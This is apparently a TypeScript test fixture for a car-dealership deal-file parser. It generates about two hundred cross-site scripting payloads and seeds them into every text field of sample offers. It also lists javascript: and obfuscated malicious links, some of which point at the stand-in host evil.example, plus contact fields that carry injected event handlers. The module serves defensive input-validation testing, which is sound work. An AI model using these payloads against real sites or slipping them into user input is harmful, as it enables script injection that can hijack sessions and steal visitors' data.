// Two hundred XSS payloads, and deals full of them.
import type { Offer } from '@forecourt/domain';
import { parseDealFile } from '@forecourt/domain/deal-file';
import { anOfferFrom } from '../server/test/offers.ts';

/** Each calls hit() if it runs. */
const VECTORS = [
  ...[
    '<script>hit()</script>',
    '<svg onload=hit()>',
    '<img src=x onerror=hit()>',
    '<svg/onload=hit()>',
  ],
  ...[
    '<body onload=hit()>',
    '<a href=javascript:hit()>x',
    '<iframe srcdoc="<script>parent.hit()">',
  ],
  ...[
    '<input autofocus onfocus=hit()>',
    '<details open ontoggle=hit()>',
    '<video src onerror=hit()>',
  ],
  ...[
    '<math><mi//xlink:href=javascript:hit()>',
    '<object data=javascript:hit()>',
    '<base href=//evil.example>',
  ],
  ...[
    '<style>@import"//evil.example"</style>',
    '<link rel=stylesheet href=//evil.example>',
    '<script src=//evil.example>',
  ],
  ...[
    '<meta http-equiv=refresh content=0;//evil.example>',
    '<img src=//evil.example/x>',
    '<form action=//evil.example>',
  ],
  ...[
    '<marquee onstart=hit()>',
    '<select autofocus onfocus=hit()>',
    '<p style=animation:x onanimationstart=hit()>',
  ],
  ...[
    '<template><script>hit()</script>',
    '<noscript><img src=x onerror=hit()>',
    '<ScRiPt>hit()</sCrIpT>',
  ],
  ...[
    '<img src="x"onerror="hit()">',
    '<svg><script>hit()',
    '&lt;script&gt;hit()',
    '&#60;script>hit()',
  ],
  ...['\\u003cscript>hit()', '{{constructor.constructor("hit()")()}}', '#{hit()}', '<%= hit() %>'],
  ...[
    'javascript:hit()',
    'data:text/html,<script>hit()</script>',
    '{"__html":"<img src=x onerror=hit()>"}',
  ],
  ...[
    '<embed src=javascript:hit()>',
    '<audio src=x onerror=hit()>',
    '<br id=x onclick=hit()>',
    '<img srcset=x onerror=hit()>',
  ],
];
/** Prefixes that break out of the context: a tag, an attribute, a script, a comment. */
const STARTS = ['', '">', "'>", '</script>', '-->'];

export const PAYLOADS: readonly string[] = STARTS.flatMap((start) =>
  VECTORS.map((vector) => start + vector),
);

type Path = readonly (string | number)[];

/** Returns an offer with every part: all payment options, add-ons, trade-ins, photos. */
function fullOffer(): Offer {
  const offer = anOfferFrom('outback');
  const { tradeIns } = anOfferFrom('f-150-two-trade-ins');
  const { photos } = anOfferFrom('mx-5-cash').vehicle;
  const lines = offer.price.lines.map((line) => ({ ...line, explanation: 'Why' }));
  return {
    ...offer,
    dealership: { ...offer.dealership, licence: 'L', website: 'https://dealer.example' },
    vehicle: { ...offer.vehicle, photos, consumption: 'C' },
    price: { ...offer.price, lines },
    tradeIns: tradeIns.map((each) => ({ ...each, vin: 'V', trim: 'T', payoffLender: 'L' })),
    addOns: offer.addOns.map((each) => ({ ...each, cancellation: 'C' })),
  };
}

function pathsOf(value: unknown, path: Path = []): Path[] {
  if (typeof value === 'string') return [path];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) =>
    pathsOf(inner, [...path, Array.isArray(value) ? Number(name) : name]),
  );
}

/** Returns the path in the format, without list indexes. */
const placeOf = (path: Path) =>
  path.map((step) => (typeof step === 'number' ? '[]' : step)).join('.');

function withTexts(
  offer: Offer,
  texts: readonly (readonly [Path, string | readonly never[]])[],
): Offer {
  const copy = structuredClone(offer);
  for (const [path, text] of texts) {
    let inner = copy as unknown as Record<string | number, unknown>;
    for (const step of path.slice(0, -1)) inner = inner[step] as typeof inner;
    inner[path.at(-1) ?? ''] = text;
  }
  return copy;
}

const accepts = (offer: Offer) => parseDealFile(Buffer.from(JSON.stringify(offer))).ok;

export interface LacedDeals {
  readonly offers: readonly Offer[];
  /** Maximum text length of every field for free text, by its path. */
  readonly places: ReadonlyMap<string, number>;
  /** Payloads that each field has held. */
  readonly coverage: ReadonlyMap<string, ReadonlySet<string>>;
}

/** Returns enough deals for every field to hold every payload that fits. */
export function lacedDeals(): LacedDeals {
  const base = fullOffer();
  const places = roomOf(base);
  const paths = pathsOf(base).filter((path) => places.get(placeOf(path)) !== 0);
  const left = new Map<string, string[]>();
  const coverage = new Map<string, Set<string>>();
  for (const [place, room] of places) {
    if (room === 0) continue;
    left.set(
      place,
      PAYLOADS.filter(({ length }) => length <= room),
    );
    coverage.set(place, new Set());
  }
  const offers: Offer[] = [];
  while ([...left.values()].some(({ length }) => length > 0)) {
    const openPlaces = [...left].flatMap(([place, { length }]) => (length > 0 ? [place] : []));
    const done = LISTS.filter((list) => !openPlaces.some((place) => place.startsWith(`${list}.`)));
    const shorter = withTexts(
      base,
      done.map((list) => [list.split('.'), []]),
    );
    const texts = paths
      .filter((path) => !done.some((list) => placeOf(path).startsWith(`${list}.`)))
      .map((path) => {
        const place = placeOf(path);
        const text = filled(left.get(place) ?? [], places.get(place) ?? 0, coverage.get(place));
        return [path, text] as const;
      });
    offers.push(withTexts(shorter, texts));
  }
  return { offers, places, coverage };
}

/** Finds the maximum length of each field. It tries all at once, and the file's problems name the rejected ones. */
function roomOf(base: Offer): Map<string, number> {
  let fitting = pathsOf(base);
  const rooms = new Map(fitting.map((path) => [placeOf(path), 0]));
  for (const length of [32, 40, 60, 80, 120, 200, 300, 600, 1_000]) {
    const text = '<'.padEnd(length, 'x');
    for (let tried: Path[] = []; tried.length !== fitting.length; ) {
      tried = fitting;
      const laced = withTexts(
        base,
        tried.map((path) => [path, text]),
      );
      const read = parseDealFile(Buffer.from(JSON.stringify(laced)));
      const problems = read.ok ? [] : read.problems;
      const refused = new Set(problems.map(({ path }) => path.replaceAll(/\[\d+\]/g, '.[]')));
      // A rejected kind hides the problems beside it, so try again without it.
      fitting = tried.filter((path) => !refused.has(placeOf(path)));
    }
    for (const path of fitting) rooms.set(placeOf(path), length);
  }
  return rooms;
}

/** Optional lists. They are left out once their fields have held every payload, so most pages are short. */
const LISTS = ['addOns', 'tradeIns', 'vehicle.photos'];

/** Joins as many unused payloads as fit. Falls back to a fixed one if all were used. */
function filled(left: string[], room: number, coverage: Set<string> | undefined): string {
  let text = '';
  for (const payload of [...left]) {
    if (text.length + payload.length + 1 > room && text !== '') break;
    if (payload.length > room) continue;
    text = text === '' ? payload : `${text} ${payload}`;
    left.splice(left.indexOf(payload), 1);
    coverage?.add(payload);
  }
  return text === '' ? '<svg onload=hit()>' : text;
}

/** Malicious links, which a deal file must reject. */
export const LINKS: readonly string[] = [
  ...[
    'javascript:hit()',
    'JaVaScRiPt:hit()',
    ' javascript:hit()',
    'java\tscript:hit()',
    'data:text/html,x',
  ],
  ...[
    'vbscript:hit()',
    '//evil.example',
    'https:javascript:hit()',
    'https://a:b@evil.example/',
    '\u0001javascript:x',
  ],
];

export function takesWebsite(website: string): boolean {
  const base = fullOffer();
  return accepts({ ...base, dealership: { ...base.dealership, website } });
}

/** Unusual contact details that a deal file accepts. */
export const ODD_CONTACTS = {
  website: 'https://evil.example/"onmouseover="hit()"?x=\'><svg/onload=hit()>',
  email: "x'onload=hit`1`@evil.example",
  phone: '+1 (303) 555-0142 x12',
};
